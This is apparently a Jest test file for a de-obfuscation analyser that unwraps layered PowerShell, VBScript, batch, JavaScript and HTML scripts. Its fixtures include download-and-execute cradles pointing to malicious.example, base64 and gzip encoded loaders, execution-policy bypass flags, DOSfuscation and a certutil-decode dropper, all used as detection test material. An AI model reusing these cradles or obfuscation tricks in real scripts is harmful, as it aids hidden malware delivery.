import { gzipSync } from 'node:zlib';
import { normaliseBatch } from './batch';
import { decodeEncodedCommand, powershellCommand, splitCommands } from './generic';
import { resolveConditionalCompilation } from './javascript';
import { deobfuscate, Layer, LayerSet } from './layers';
import { normalisePowerShell } from './powershell';
import { evalArithmetic, ScriptLanguage } from './text';
import { normaliseVbscript } from './vbscript';

/**
 * De-obfuscation layer by layer, with exact texts. Every sample is built here from its clear text
 * (harmless by construction: the URLs are reserved `.example` names and nothing runs).
 */

const layersOf = (text: string, language: ScriptLanguage): Layer[] => {
  const set = new LayerSet();
  deobfuscate(set, set.root(text, language), Date.now() + 10_000);
  return set.layers;
};
const byTechnique = (layers: Layer[], technique: string) => layers.filter((l) => l.technique === technique);
const utf16b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://malicious.example/stage2.ps1')";

describe('PowerShell', () => {
  it.each([
    ['-enc', `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc ${utf16b64(CRADLE)}`],
    ['-e', `powershell -e ${utf16b64(CRADLE)}`],
    ['-EncodedCommand', `pwsh.exe -ExecutionPolicy Bypass -EncodedCommand "${utf16b64(CRADLE)}"`],
    ['-ec inside cmd /c', `cmd.exe /c "powershell -w 1 -ec ${utf16b64(CRADLE)}"`],
  ])('decodes %s (base64 of UTF-16LE) into its own layer, text exact', (_switch, line) => {
    const layers = layersOf(line, 'batch');
    const decoded = byTechnique(layers, 'powershell:encoded-command');
    expect(decoded).toHaveLength(1);
    expect(decoded[0].text).toBe(CRADLE);
    expect(decoded[0].language).toBe('powershell');
    expect(decoded[0].obfuscationDepth).toBeGreaterThanOrEqual(1);
  });

  it('refuses base64 that is not UTF-16LE text, and -ExecutionPolicy abbreviations', () => {
    expect(decodeEncodedCommand(Buffer.from('plain ascii, not utf-16').toString('base64'))).toBeNull();
    expect(byTechnique(layersOf('powershell -ex bypass -file run.ps1', 'batch'), 'powershell:encoded-command')).toEqual([]);
  });

  it('finds the command of a powershell command line after its options', () => {
    expect(powershellCommand(' -NoProfile -WindowStyle Hidden -Command "Get-Date; Write-Host hi"')).toBe('Get-Date; Write-Host hi');
    expect(powershellCommand(' -nop -w hidden IEX(foo)')).toBe('IEX(foo)');
    expect(powershellCommand(' -File .\\setup.ps1')).toBeNull();
    expect(splitCommands('set a=1&& set b=2 & echo "x & y" || exit')).toEqual(['set a=1', 'set b=2', 'echo "x & y"', 'exit']);
  });

  it('decodes FromBase64String + GzipStream to the inner script', () => {
    const inner = "Write-Host 'stage two'; IEX (Invoke-WebRequest -UseBasicParsing 'http://malicious.example/s3.ps1').Content";
    const gz = gzipSync(Buffer.from(inner)).toString('base64');
    const outer = `$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gz}'))\nIEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`;
    const layers = layersOf(outer, 'powershell');
    const [gzipLayer] = byTechnique(layers, 'powershell:gzip+base64');
    expect(gzipLayer.text).toBe(inner);
    expect(gzipLayer.parent).toBe(0);
  });

  it('decodes DeflateStream payloads (raw deflate over base64)', () => {
    const { deflateRawSync } = jest.requireActual<typeof import('node:zlib')>('node:zlib');
    const inner = 'Start-Process calc.exe';
    const b64 = deflateRawSync(Buffer.from(inner)).toString('base64');
    const layers = layersOf(`sal a New-Object; iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${b64}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`, 'powershell');
    expect(byTechnique(layers, 'powershell:deflate+base64')[0].text).toBe(inner);
  });

  it('normalises concatenation, the format operator, invocation by string and the IEX of a constant', () => {
    const layers = layersOf(`& ('I'+'EX') ("{1}{0}" -f 'bClient).DownloadString(''http://malicious.example/x'')','(New-Object Net.We')`, 'powershell');
    expect(layers[1].technique).toBe('powershell:concatenation+format-operator+parentheses+invocation');
    expect(layers[1].text).toBe("IEX '(New-Object Net.WebClient).DownloadString(''http://malicious.example/x'')'");
    expect(byTechnique(layers, 'powershell:invoke-expression')[0].text).toBe("(New-Object Net.WebClient).DownloadString('http://malicious.example/x')");
  });

  it('rewrites backticks, [char] codes, char-code pipelines (with -bxor), automatic-variable alphabets', () => {
    const xored = [...'http'].map((c) => c.charCodeAt(0) ^ 0x2a).join(',');
    const r = normalisePowerShell(`I\`E\`X ([char]72+[char]0x69); $u = (${xored} | %{[char]($_ -bxor 0x2a)}) -join ''; $x = $env:comspec[4,15,25]-join''; $y = ($pshome[4]+$pshome[30]+'x'); $z = [char[]](87,105,110) -join ''`);
    expect(r.text).toBe("IEX 'Hi'; $u = 'http'; $x = 'Iex'; $y = 'iex'; $z = 'Win'");
    expect(r.steps.map((s) => s.name)).toEqual(expect.arrayContaining(['backticks', 'char-codes', 'char-code-array', 'automatic-variable-alphabet', 'indexed-string', 'concatenation']));
  });

  it('undoes reversal ([array]::Reverse, negative ranges, RightToLeft) and .Replace / -replace chains', () => {
    const r = normalisePowerShell(
      "$v = 'exe.daolyap'.ToCharArray(); [array]::Reverse($v); $f = -join $v\n$a = -join 'gnirtSdaolnwoD'[-1..-14]\n$b = ([regex]::Matches('txet','.','RightToLeft') | %{$_.value}) -join ''\n$c = ('hxxp://malZZicious.example' -replace 'xx','tt').Replace('ZZ','')",
    );
    expect(r.text).toBe("$v = 'exe.daolyap'.ToCharArray(); [array]::Reverse($v); $f = 'payload.exe'\n$a = 'DownloadString'\n$b = 'text'\n$c = 'http://malicious.example'");
  });

  it('propagates single-assignment string variables into later uses and interpolations', () => {
    const r = normalisePowerShell("$h = 'malicious.example'\n$u = 'http://' + $h + '/a.ps1'\nWrite-Host \"fetching $u now\"\n$n = 1; $n = 2; Write-Host $n");
    expect(r.text).toBe("$h = 'malicious.example'\n$u = 'http://malicious.example/a.ps1'\nWrite-Host \"fetching http://malicious.example/a.ps1 now\"\n$n = 1; $n = 2; Write-Host $n");
  });

  it('leaves an administrator script alone (no layer beyond the file)', () => {
    const admin = "param([string]$ComputerName = $env:COMPUTERNAME)\n# Disk report (don't run on servers)\n$disks = Get-CimInstance Win32_LogicalDisk -Filter \"DriveType=3\"\nforeach ($d in $disks) { '{0}: {1:N1} GB free' -f $d.DeviceID, ($d.FreeSpace / 1GB) }\n";
    expect(layersOf(admin, 'powershell')).toHaveLength(1);
  });

  it('keeps the fixpoint bounded: a self-reproducing encoded chain ends at the depth limit', () => {
    let text = 'Write-Host done';
    for (let i = 0; i < 11; i++) text = `powershell -enc ${utf16b64(text)}`;
    const set = new LayerSet();
    deobfuscate(set, set.root(text, 'powershell'), Date.now() + 10_000);
    expect(Math.max(...set.layers.map((l) => l.depth))).toBeLessThanOrEqual(set.limits.maxDepth);
    expect([...set.notes].join()).toContain('deeper than 10');
  });
});

describe('VBScript', () => {
  it('decodes Chr()/ChrW() concatenations, StrReverse, Replace and Execute payloads', () => {
    const url = 'http://malicious.example/p.exe';
    const chrs = [...url].map((c, i) => (i % 3 === 0 ? `ChrW(&H${c.charCodeAt(0).toString(16)})` : i % 3 === 1 ? `Chr(${c.charCodeAt(0) - 10}+10)` : `Chr(${c.charCodeAt(0)})`)).join(' & ');
    const source = `Dim u\r\nu = ${chrs}\r\nSet sh = CreateObject(StrReverse("llehS.tpircSW"))\r\nExecute Replace("MsgBoxZZ ""hello""", "ZZ", "")\r\n`;
    const layers = layersOf(source, 'vbscript');
    expect(layers[1].technique).toBe('vbscript:chr+concatenation+string-functions');
    expect(layers[1].text).toBe(`Dim u\r\nu = "${url}"\r\nSet sh = CreateObject("WScript.Shell")\r\nExecute "MsgBox ""hello"""\r\n`);
    expect(byTechnique(layers, 'vbscript:execute')[0].text).toBe('MsgBox "hello"');
  });

  it('folds line continuations, Mid/Left/Right/LCase and Join(Array()) on constants', () => {
    const r = normaliseVbscript('x = "pow" & _\r\n "ershell"\r\ny = LCase("CMD") & Mid("xx.exe", 3) & Left("/c zz", 3) & Right("aaecho", 4)\r\nz = Join(Array("a", "b", "c"), "-")');
    expect(r.text).toBe('x = "powershell"\r\ny = "cmd.exe/c echo"\r\nz = "a-b-c"');
  });
});

describe('batch', () => {
  it('expands %var:~start,length% substrings, substitutions, carets and undefined variables', () => {
    const source = [
      '@echo off',
      'set abc=abcdefghijklmnopqrstuvwxyz',
      'set x=%abc:~15,1%%abc:~14,1%%abc:~22,1%%abc:~4,1%%abc:~17,1%shell',
      'set y=%x:shell=SHELL%',
      '%x% -nop -c "IEX(iwr http://malicious.example/b.ps1)"',
      'c%undefined%m^d /c "echo %COMSPEC:~-7,3% & echo %abc:~-3%"',
      'set /a n=6*7',
      'echo %n% %y%',
    ].join('\r\n');
    const r = normaliseBatch(source);
    expect(r.text.split('\n')).toEqual([
      '@echo off',
      'set abc=abcdefghijklmnopqrstuvwxyz',
      'set x=powershell',
      'set y=powerSHELL',
      'powershell -nop -c "IEX(iwr http://malicious.example/b.ps1)"',
      'cmd /c "echo cmd & echo xyz"',
      'set /a n=6*7',
      'echo 42 powerSHELL',
    ]);
    expect(Object.fromEntries(r.steps.map((s) => [s.name, s.count]))).toMatchObject({ substring: 7, substitution: 1, carets: 1, 'empty-variables': 1 });
    const layers = layersOf(source, 'batch');
    expect(byTechnique(layers, 'command-line:powershell')[0].text).toBe('IEX(iwr http://malicious.example/b.ps1)');
    expect(byTechnique(layers, 'command-line:cmd')[0].text).toBe('echo cmd\necho xyz');
  });

  it('follows delayed expansion under cmd /v:on (DOSfuscation)', () => {
    const layers = layersOf('cmd /v:on /c "set p=power&& set s=shell&& !p!!s! -c Get-Date"', 'batch');
    const nested = byTechnique(layers, 'command-line:cmd')[0];
    expect(nested.text).toBe('setlocal EnableDelayedExpansion\nset p=power\nset s=shell\n!p!!s! -c Get-Date');
    const expanded = layers.find((l) => l.parent === nested.index && l.technique.startsWith('batch:'))!;
    expect(expanded.text.split('\n')[3]).toBe('powershell -c Get-Date');
  });

  it('decodes a file written with echo and decoded with certutil -decode', () => {
    const payload = 'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "calc.exe"\r\n';
    const b64 = Buffer.from(payload).toString('base64');
    const source = `echo -----BEGIN CERTIFICATE----- > %TEMP%\\a.txt\r\necho ${b64.slice(0, 40)} >> %TEMP%\\a.txt\r\necho ${b64.slice(40)} >> %TEMP%\\a.txt\r\necho -----END CERTIFICATE----- >> %TEMP%\\a.txt\r\ncertutil -decode %TEMP%\\a.txt %TEMP%\\a.vbs\r\nwscript %TEMP%\\a.vbs`;
    const [decoded] = byTechnique(layersOf(source, 'batch'), 'batch:certutil-decode');
    expect(decoded.text).toBe(payload);
    expect(decoded.language).toBe('vbscript');
  });
});

describe('JavaScript', () => {
  it('decodes String.fromCharCode, unescape, hex/unicode escapes, concatenation and split/reverse/join', () => {
    const codes = [...'http://'].map((c) => c.charCodeAt(0)).join(',');
    const layers = layersOf(`var a = String.fromCharCode(${codes}) + "mal" + 'icious.example/\\x70ay\\u006coad.exe';\nvar b = unescape('%u0057%53cript.Shell');\nvar c = "exe.dmc".split("").reverse().join("");`, 'javascript');
    expect(layers[1].technique).toBe('javascript:char-codes+unescape+escapes+concatenation+string-methods');
    expect(layers[1].text).toBe('var a = "http://malicious.example/payload.exe";\nvar b = "WScript.Shell";\nvar c = "cmd.exe";');
  });

  it('extracts eval / Function / setTimeout of constants and the command lines given to Run', () => {
    const layers = layersOf(`eval("WScript" + ".Echo(1)"); new Function("a", "return a+1"); setTimeout("x()", 10);\nnew ActiveXObject("WScript.Shell").Run("cmd /c powershell -enc ${utf16b64('Get-Date')}", 0);`, 'javascript');
    expect(byTechnique(layers, 'javascript:eval')[0].text).toBe('WScript.Echo(1)');
    expect(byTechnique(layers, 'javascript:function-constructor')[0].text).toBe('return a+1');
    expect(byTechnique(layers, 'javascript:timer-string')[0].text).toBe('x()');
    expect(byTechnique(layers, 'command-line:run')[0].text).toBe(`cmd /c powershell -enc ${utf16b64('Get-Date')}`);
    expect(byTechnique(layers, 'powershell:encoded-command')[0].text).toBe('Get-Date');
  });

  it('leaves ordinary page code alone', () => {
    const code = "document.addEventListener('DOMContentLoaded', function () {\n  var el = document.getElementById('menu');\n  if (el) el.className = 'open';\n});\n";
    expect(layersOf(code, 'javascript')).toHaveLength(1);
  });

  it('rewrites JScript conditional compilation into code other engines run', () => {
    const cc = resolveConditionalCompilation('/*@cc_on @if (@_jscript_version >= 5) WScript.Echo("jscript"); @else WScript.Echo("other"); @end @*/ var mail = "a@b.example";');
    expect(cc.replace(/\s+/g, ' ').trim()).toBe('if (5.8 >= 5) { WScript.Echo("jscript"); } else { WScript.Echo("other"); } var mail = "a@b.example";');
  });
});

describe('HTML', () => {
  it('extracts script blocks (JavaScript and VBScript), event handlers and what a script document.writes', () => {
    const page = '<html><head><script>document.write("<scr" + "ipt>alert(1)</scr" + "ipt>");</script><script language="VBScript">MsgBox "x"</script></head><body onload="go()"></body></html>';
    const layers = layersOf(page, 'html');
    expect(layers.map((l) => [l.technique, l.language, l.text])).toEqual([
      ['file', 'html', page],
      ['html:script-block', 'javascript', 'document.write("<scr" + "ipt>alert(1)</scr" + "ipt>");'],
      ['html:script-block', 'vbscript', 'MsgBox "x"'],
      ['html:event-handlers', 'javascript', 'go()'],
      ['javascript:concatenation', 'javascript', 'document.write("<script>alert(1)</script>");'],
      ['javascript:document.write', 'html', '<script>alert(1)</script>'],
      ['html:script-block', 'javascript', 'alert(1)'],
    ]);
  });
});

describe('helpers', () => {
  it('evaluates constant arithmetic only', () => {
    expect(evalArithmetic('70+2')).toBe(72);
    expect(evalArithmetic('&H48')).toBe(72);
    expect(evalArithmetic('(144/2) xor 0')).toBe(72);
    expect(evalArithmetic('0x40 -bxor 8')).toBe(72);
    expect(evalArithmetic('x+1')).toBeNull();
    expect(evalArithmetic('1/0')).toBeNull();
  });
});
